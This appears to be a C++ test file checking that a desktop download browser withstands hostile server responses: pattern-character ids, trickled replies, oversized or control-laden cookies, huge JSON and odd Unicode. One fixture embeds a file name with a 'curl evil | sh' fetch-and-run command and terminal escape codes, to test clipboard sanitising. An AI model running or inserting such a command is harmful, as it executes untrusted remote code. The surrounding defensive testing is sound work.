// The browser against answers that a broken or hostile site, or anyone in the middle, can
// send: site text used as pattern text, quadratic scraping, searches without a total
// bound, trickled answers, header bytes that break cookies, cookies without bounds, caches
// and conversions that multiply an answer, control characters bound for the clipboard,
// characters lost in conversion. Each case shows the sound outcome in what the window
// holds and what the site received.
#include <QApplication>
#include <QClipboard>
#include <QLineEdit>
#include <QMessageBox>
#include <chrono>

#include "json/json_object.h"
#include "platform/http/curl_http_request.h"
#include "platform/script/duktape_bytecode_cache.h"
#include "platform/window/controls.h"
#include "platform/window/message_box_seam.h"
#include "site/home_page.h"
#include "tests/app/catalogue_fixture.h"
#include "web/cookie_merge.h"

namespace zendra {
namespace {

using namespace std::string_literals;

using site::CatalogueCategory;
using site::Reply;

CatalogueCategory PlainCategory(std::string id, std::string name) {
  return {std::move(id), std::move(name), {}};
}

// The small catalogue with the first category's first file renamed.
Catalogue WithFirstFileName(std::string fileName) {
  Catalogue catalogue = SmallCatalogue();
  catalogue.categories[0].products[0].languages[0].files[0].fileName = std::move(fileName);
  return catalogue;
}

class HostileTest : public CatalogueTest {
 protected:
  explicit HostileTest(Catalogue catalogue = SmallCatalogue())
      : CatalogueTest(std::move(catalogue)) {}

  void StartUp() {
    ScopedMessageBoxInterceptor intercept([](QMessageBox&) {});
    CatalogueTest::StartUp();
  }

  std::string CookieSentWith(const std::string& path) const {
    for (const auto& request : site_.Log())
      if (request.path == path) return request.Header("Cookie");
    return "<no request>";
  }
};

// Ids that hold pattern characters, and one whose first byte in the program's code page
// is a single-byte character (the euro sign) in front of a bracket.
class SitePatternTextTest : public HostileTest {
 protected:
  SitePatternTextTest()
      : HostileTest(Catalogue{{PlainCategory("|", "Alpha"), PlainCategory(".", "Beta"),
                               PlainCategory("€(", "Gamma"), PlainCategory("c-4", "Delta"),
                               PlainCategory("^x$", "Epsilon")}}) {}
};

TEST_F(SitePatternTextTest, CategoryIdsAreLookedForAsTheyStand) {
  StartUp();
  EXPECT_EQ(ComboTexts(window_.categoryCombo()),
            (std::vector<std::string>{"Alpha", "Beta", "Gamma", "Delta", "Epsilon"}));
}

Catalogue ManyCategories(int count) {
  Catalogue catalogue;
  for (int i = 0; i < count; ++i)
    catalogue.categories.push_back(
        PlainCategory("c-" + std::to_string(i), "类" + std::to_string(i)));
  return catalogue;
}

class ManyCategoriesTest : public HostileTest {
 protected:
  ManyCategoriesTest() : HostileTest(ManyCategories(30000)) {}
};

TEST_F(ManyCategoriesTest, EveryCategoryGetsItsName) {
  // Scraping that rescans the page for each id would not end within the test's time.
  StartUp();
  ASSERT_EQ(window_.categoryCombo().count(), 30000);
  EXPECT_EQ(window_.categoryCombo().itemText(0).toStdString(), "类0");
  EXPECT_EQ(window_.categoryCombo().itemText(29999).toStdString(), "类29999");
}

TEST_F(HostileTest, LongTextBetweenMarkersKeepsItAndTheMatchesBehindIt) {
  const std::string longName(600000, 'n');
  site_.SetResponder([&](const LoggedRequest& request) -> std::optional<Reply> {
    if (request.path != "/Category/GetLang") return std::nullopt;
    return Reply{.body = R"({"result":[{"id":"l-1","lang":")" + longName +
                         R"("},{"id":"l-2","lang":"English"}]})"};
  });
  StartUp();
  const auto languages = ComboTexts(window_.languageCombo());
  ASSERT_EQ(languages.size(), 2u);
  EXPECT_EQ(languages[0].size(), longName.size());
  EXPECT_EQ(languages[1], "English");
}

TEST_F(HostileTest, TricklingAnswerEndsWithinTheOverallBound) {
  // Each byte comes well within the idle time-out, the whole answer far beyond the sum of
  // the phases.
  ScopedTimeoutCap shortTimeOuts(std::chrono::milliseconds(1000));
  site_.SetResponder([](const LoggedRequest& request) -> std::optional<Reply> {
    if (request.path != "/Category/Index") return std::nullopt;
    return Reply{.body = R"({"result":[{"id":"p-1","name":"Trickled product name"}]})",
                 .trickle = std::chrono::milliseconds(250)};
  });
  StartUp();
  EXPECT_EQ(window_.categoryCombo().count(), 3);
  EXPECT_EQ(window_.productCombo().count(), 0);
}

// The second visit's answer: the home page with the given extra headers.
site::Responder HomePageWithHeaders(site::HeaderList headers) {
  return [headers](const LoggedRequest& request) -> std::optional<Reply> {
    if (request.path != "/" || request.Header("Cookie").empty()) return std::nullopt;
    return Reply{.body = site::HomePage(SmallCatalogue()),
                 .contentType = "text/html",
                 .headers = headers};
  };
}

TEST_F(HostileTest, HeaderLinesEndingInOddHighBytesKeepTheirCookies) {
  site_.SetResponder(HomePageWithHeaders({{"Server", "服务器"},
                                          {"Set-Cookie", "city=中"},
                                          {"Set-Cookie", "zd_next=1; path=/"}}));
  StartUp();
  const std::string sent = CookieSentWith("/Category/Index");
  EXPECT_NE(sent.find("city=中"), std::string::npos) << sent;
  EXPECT_NE(sent.find("zd_next=1"), std::string::npos) << sent;
  EXPECT_NE(sent.find("zd_visit="), std::string::npos) << sent;
  EXPECT_EQ(window_.fileList().topLevelItemCount(), 3);
}

TEST_F(HostileTest, CookieWithControlCharactersIsDroppedAlone) {
  site_.SetResponder(HomePageWithHeaders({{"Set-Cookie", "bad=a\x1b[2Jb; path=/"},
                                          {"Set-Cookie", "tabbed=a\tb"},
                                          {"Set-Cookie", "zd_next=1; path=/"}}));
  StartUp();
  const std::string sent = CookieSentWith("/Category/Index");
  EXPECT_EQ(sent.find("bad="), std::string::npos) << sent;
  EXPECT_EQ(sent.find("tabbed="), std::string::npos) << sent;
  EXPECT_NE(sent.find("zd_next=1"), std::string::npos) << sent;
  EXPECT_NE(sent.find("zd_visit="), std::string::npos) << sent;
}

TEST_F(HostileTest, CookiesStayWithinBounds) {
  // The first visit sets 60 cookies of 4000 bytes each beside the site's own.
  site_.SetResponder([](const LoggedRequest& request) -> std::optional<Reply> {
    if (request.path != "/" || !request.Header("Cookie").empty()) return std::nullopt;
    Reply reply{.body = kRedirectPage, .contentType = "text/html"};
    reply.headers.emplace_back("Set-Cookie", "zd_visit=1; path=/");
    for (int i = 0; i < 60; ++i)
      reply.headers.emplace_back("Set-Cookie",
                                 "big" + std::to_string(i) + "=" + std::string(4000, 'v'));
    return reply;
  });
  StartUp();
  EXPECT_EQ(window_.categoryCombo().count(), 3);
  EXPECT_EQ(window_.fileList().topLevelItemCount(), 3);
  EXPECT_LE(State().SiteCookies.size(), kMaxCookieTextBytes);
  for (const auto& request : site_.Log())
    EXPECT_LE(request.Header("Cookie").size(), kMaxCookieTextBytes) << RequestLine(request);
}

TEST_F(HostileTest, OnlyTheLibraryScriptIsKeptCompiled) {
  // Details answers well over a kilobyte each.
  site_.SetResponder([](const LoggedRequest& request) -> std::optional<Reply> {
    if (request.path != "/Category/GetProduct") return std::nullopt;
    return Reply{.body = R"({"result":{"FileName":")" + std::string(4096, 'f') + request.body +
                         R"(.iso","SHA1":"00","size":1,"PostDateString":"2020-01-01",)"
                         R"("DownLoad":"https://127.0.0.1/x"}})"};
  });
  StartUp();
  EXPECT_EQ(window_.fileList().topLevelItemCount(), 3);
  EXPECT_LE(DuktapeBytecodeCache::Instance().StoredCount(), 1u);
}

TEST(HostileDocumentTest, LargestAnswerIsReadAsData) {
  // Close to the body cap: the answer must fit the script engine's memory as a value; as
  // script source it would take several times its size.
  const std::size_t nameLength = std::size_t{60} << 20;
  JsonObject json;
  ASSERT_TRUE(json.Parse(R"({"result":{"FileName":")" + Text(nameLength, 'f') + R"("}})"));
  EXPECT_EQ(json.GetText("result.FileName").size(), nameLength);
}

class ControlCharacterLinkTest : public HostileTest {
 protected:
  ControlCharacterLinkTest()
      : HostileTest(WithFirstFileName("safe.iso\ncurl evil | sh\x1b[8m\0tail"s)) {}
};

TEST_F(ControlCharacterLinkTest, CopiedLinkHoldsNoControlCharacters) {
  StartUp();
  QTreeWidget& files = window_.fileList();
  ASSERT_EQ(files.topLevelItemCount(), 3);
  // A zero in an answer ends the text there.
  EXPECT_EQ(files.topLevelItem(0)->text(1).toStdString(), "safe.iso\ncurl evil | sh\x1b[8m");

  files.setCurrentItem(files.topLevelItem(0), 2);
  int shown = 0;
  ScopedMessageBoxInterceptor intercept([&](QMessageBox&) { ++shown; });
  emit window_.fileListDoubleClicked(GetCurrentSelection(files));
  const std::string expected = site_.BaseUrl() + "download/safe.isocurl evil | sh[8m";
  EXPECT_EQ(QApplication::clipboard()->text().toStdString(), expected);
  EXPECT_EQ(window_.linkEdit().text().toStdString(), expected);
  EXPECT_EQ(shown, 1);
}

class IgnorableCharacterTest : public HostileTest {
 protected:
  IgnorableCharacterTest()
      : HostileTest(WithFirstFileName("\xEF\xBB\xBF" "a\u200Bb\u00ADc\u2060d\uFE0F.iso")) {}
};

TEST_F(IgnorableCharacterTest, CharactersWithoutACodeBecomeQuestionMarks) {
  StartUp();
  ASSERT_EQ(window_.fileList().topLevelItemCount(), 3);
  EXPECT_EQ(window_.fileList().topLevelItem(0)->text(1).toStdString(), "?a?b?c?d?.iso");
}

}  // namespace
}  // namespace zendra
